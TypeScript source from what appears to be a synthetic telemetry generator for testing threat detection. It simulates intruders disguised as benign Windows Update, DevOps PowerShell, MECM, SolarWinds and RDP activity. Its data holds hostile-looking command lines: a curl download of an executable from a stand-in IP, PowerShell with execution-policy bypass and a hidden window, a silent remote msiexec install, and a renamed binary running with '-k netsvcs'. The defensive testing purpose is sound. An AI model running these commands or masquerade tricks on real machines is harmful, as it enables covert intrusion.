import type { RemoteToolFact } from "../facts/remoteTools.ts";
import type { Device } from "../model/device.ts";
import type { FileFact } from "../model/file.ts";
import type { ProcessFact } from "../model/process.ts";
import { agentFile, relayOf } from "./agents.ts";
import { after, type PlanContext } from "./context.ts";
import type { Plant, ScenarioId } from "./plant.ts";
import { appear, samProgram } from "./scenarios.ts";
import { openScript, type Script } from "./script.ts";
import type { Visits } from "./visits.ts";

/** An intruder who looks like a benign scenario, so that a careless exclusion for it hides a true positive. */
export interface Disguise {
  readonly hidesIn: ScenarioId;
  readonly folder: string;
  readonly name: string;
  readonly createdBy: string;
  /** Starts the program that writes the file. */
  readonly enter: (context: PlanContext, device: Device, script: Script, tick: number) => ProcessFact;
}

const powershellFolder = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0";
const fakeMonitorFolder = "C:\\Users\\Public\\AppData";

export const disguises: readonly Disguise[] = [
  {
    hidesIn: "windows-update",
    folder: "C:\\ProgramData\\WindowsUpdate",
    name: "wuauclt32.exe",
    createdBy: "curl.exe",
    enter: (context, device, script, tick) => {
      const target = "C:\\ProgramData\\WindowsUpdate\\wuauclt32.exe";
      const commandLine = `curl.exe -s -k https://203.0.113.66/w -o ${target}`;
      const { explorer } = context.residents(device);
      return script.start(tick, { file: context.system("curl.exe"), commandLine, account: "user" }, explorer);
    },
  },
  {
    hidesIn: "devops-powershell",
    folder: "C:\\Users\\Public\\DevOpsScripts",
    name: "sync-agent.exe",
    createdBy: "powershell.exe",
    enter: (context, device, script, tick) => {
      const file = context.system("powershell.exe", powershellFolder);
      const commandLine = "powershell.exe -ep bypass -w hidden -File C:\\Users\\Public\\DevOpsScripts\\sync.ps1";
      return script.start(tick, { file, commandLine, account: "user" }, context.residents(device).explorer);
    },
  },
  {
    hidesIn: "mecm-driver",
    folder: "C:\\ProgramData\\Package Cache\\9f1c",
    name: "drvhelper.exe",
    createdBy: "rundll32.exe",
    enter: (context, device, script, tick) => {
      const install = "msiexec.exe /q /i https://203.0.113.67/driver.msi";
      const installer = script.start(
        tick,
        { file: context.system("msiexec.exe"), commandLine: install, account: "user" },
        context.residents(device).explorer,
      );
      const action = "rundll32.exe C:\\Users\\Public\\MSI4F2A.tmp,zzzzInvokeManagedCustomActionOutOfProc";
      const run = { file: context.system("rundll32.exe"), commandLine: action, account: "user" } as const;
      return script.start(after(context, tick, 3), run, installer);
    },
  },
  {
    hidesIn: "solarwinds-sam",
    folder: fakeMonitorFolder,
    name: "apmprobe.exe",
    createdBy: "SolarWinds.SAM.exe",
    enter: (context, device, script, tick) => {
      const file = samProgram(context, fakeMonitorFolder, "Riverbend Trading LLC");
      return script.start(
        tick,
        { file, commandLine: `"${file.path}"`, account: "user" },
        context.residents(device).explorer,
      );
    },
  },
  {
    hidesIn: "remote-desktop",
    folder: "C:\\Users\\Public\\Videos",
    name: "support_tool.exe",
    createdBy: "rdpclip.exe",
    enter: (context, device, script, tick) => {
      const session = { deviceName: "kali-7", ip: "203.0.113.68" };
      const run = { file: context.system("rdpclip.exe"), commandLine: "rdpclip", account: "admin", session } as const;
      return script.start(tick, run, context.residents(device).termService);
    },
  },
];

export interface DisguisedCast {
  readonly tool: RemoteToolFact;
  readonly signer: string;
  readonly device: Device;
  readonly visits: Visits;
  readonly disguise: Disguise;
}

export function playDisguised(context: PlanContext, cast: DisguisedCast): void {
  const { tool, signer, device, visits, disguise } = cast;
  const { folder, name, createdBy, hidesIn } = disguise;
  const file: FileFact = agentFile(context, tool, { folder, name, signer });
  const plant: Plant = { class: "attacker", tool: tool.tool, device, file, createdBy, renamed: true, hidesIn };
  const script = openScript(context, device, plant);
  const writer = disguise.enter(context, device, script, visits.install);
  appear(context, { script, device, file, tick: after(context, visits.install, 8) }, writer);
  for (const tick of visits.later) {
    const run = { file, commandLine: `"${file.path}" -k netsvcs`, account: "user" } as const;
    const process = script.start(tick, run, writer);
    script.load(after(context, tick, 1), file, process);
    script.certify(after(context, tick, 2), file);
    script.connect(after(context, tick, 6), process, { host: relayOf(tool) });
  }
}
